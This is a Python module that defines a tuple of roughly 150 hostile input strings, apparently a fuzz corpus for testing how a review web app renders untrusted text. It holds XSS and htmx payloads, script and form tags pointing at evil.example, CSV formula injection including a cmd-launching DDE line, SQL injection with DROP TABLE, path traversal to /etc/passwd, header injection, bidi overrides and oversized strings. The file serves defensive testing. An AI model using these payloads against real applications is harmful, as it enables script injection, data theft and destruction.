"""150 texts that somebody might send to whoever reads them: markup, scripts, bidi, formulas, control characters, 64 kB."""

from typing import Final

_SCRIPTS: Final = [
    "<script>document.title='owned'</script>", "</bdi></details><script>alert(1)</script>", "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>", "<svg><script>alert(1)</script></svg>", "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<body onload=alert(1)>", "<input autofocus onfocus=alert(1)>", "<details open ontoggle=alert(1)>x</details>",
    "<a href='javascript:alert(1)'>x</a>", "javascript:alert(1)", "data:text/html,<script>alert(1)</script>",
    "<math><mtext></mtext><script>alert(1)</script></math>", "<style>body{display:none}</style>", "<link rel=stylesheet href=//evil.example>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>", "<base href=//evil.example>", "<form action=//evil.example><button>ok",
    "<textarea>", "</textarea>", "<title>", "</title>", "<!--", "<![CDATA[", "]]>", "<?php echo 1 ?>", "<plaintext>", "<noscript>",
    "<template><script>alert(1)</script></template>", "<object data=//evil.example>", "<embed src=//evil.example>", "<marquee>", "<b>bold",
    "<bdi dir=rtl>", "<dialog open>", "<audio src=x onerror=alert(1)>", "<video><source onerror=alert(1)></video>", "<p hidden>", "<x-y>",
    "<button name=category value=self-harm data-key=1>1</button>", "<div id=desk>", "<p id=said hx-swap-oob=true>owned</p>",
    "<div hx-get='/review/logout' hx-trigger='load'>", "<div hx-on:load='alert(1)'>", "<div data-hx-get=/review/label hx-trigger=load>",
    "<input type=hidden name=csrf value=x>", "<script src=//evil.example/x.js></script>", "<script/src=data:,alert(1)>", "<ScRiPt>alert(1)</sCrIpT>",
    "<img src=`x`onerror=alert(1)>", "<<script>alert(1);//<</script>", "<img \x0bsrc=x onerror=alert(1)>", "<iframe src=//evil.example>",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e", "&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;script&#62;", "&amp;", "&", "&nbsp;", "&#0;",
    '"', "'", "\"'><", "' onmouseover='alert(1)", '" autofocus onfocus="alert(1)', "`${alert(1)}`", "${7*7}", "{{7*7}}", "{% raw %}", "{{ csrf }}",
    "{{''.__class__.__mro__}}", "#{7*7}", "<%= 7*7 %>", "[[7*7]]", "{{constructor.constructor('alert(1)')()}}", "%3Cscript%3E", "\\u003cscript\\u003e",
]  # fmt: skip
_FORMULAS: Final = [
    "=1+1", '=HYPERLINK("//evil.example","x")', "+1", "-1", "@SUM(A1)", "=cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "1,2;3\t4", '"a","b"',
    "' OR 1=1 --", "'; DROP TABLE label; --", "../../etc/passwd", "null", "undefined", "NaN", "true", "-0", "1e309", "[object Object]", "__proto__",
    "\r\nSet-Cookie: a=b", "\r\n\r\n<script>alert(1)</script>", "a\rb", "a\nb\n\nc", "\nfirst line is blank", "  blanks  at both ends  ", "\ttab",
]  # fmt: skip
_BIDI: Final = [
    "\u202eevil\u202c", "\u202eunclosed", "\u202dleft\u202c", "\u2066isolated\u2069", "\u2067unclosed isolate", "\u2068\u202e\u2069", "\u2069\u2069closed",
    "\u05e9\u05dc\u05d5\u05dd \u202e<b>", "\u0645\u0631\u062d\u0628\u0627 hello", "\u200fmark", "\u061cmark", "a\u202eb\u2066c\u202dd",
    "\u202e\u2067" * 100,
]  # fmt: skip
_UNSEEN: Final = [
    "zero\u200bwidth", "joi\u200dner", "non\u200cjoiner", "\ufeffmark", "soft\u00adhyphen", "word\u2060joiner", "\u3164", "\u2800", "\u115f\u1160",
    "tag\U000e0041\U000e007f", "\x01\x02\x1f", "\x7f", "\x80\x85\x9f", "bell\x07", "esc\x1b[31mred", "\u2028line", "\u2029paragraph", "\ufff9\ufffb",
    "\U000f0000private", "\ufdd0non-character", "\U0010ffff", "\u034f", "nbsp\u00a0here", "\u3000wide",
]  # fmt: skip
_HEAVY: Final = [
    "e" + "\u0301" * 500, "Z\u0351\u036b\u0343\u0300" * 200, "\u202e" * 5_000, "\ufdfa" * 500, "\U0001f469\u200d\U0001f467 \U0001f3f3\ufe0f\u200d\U0001f308",
    "\U0001f642" * 2_000, "x" * 65_536, "<b>" * 21_845,
]  # fmt: skip

HOSTILE: Final[tuple[str, ...]] = (*_SCRIPTS, *_FORMULAS, *_BIDI, *_UNSEEN, *_HEAVY)
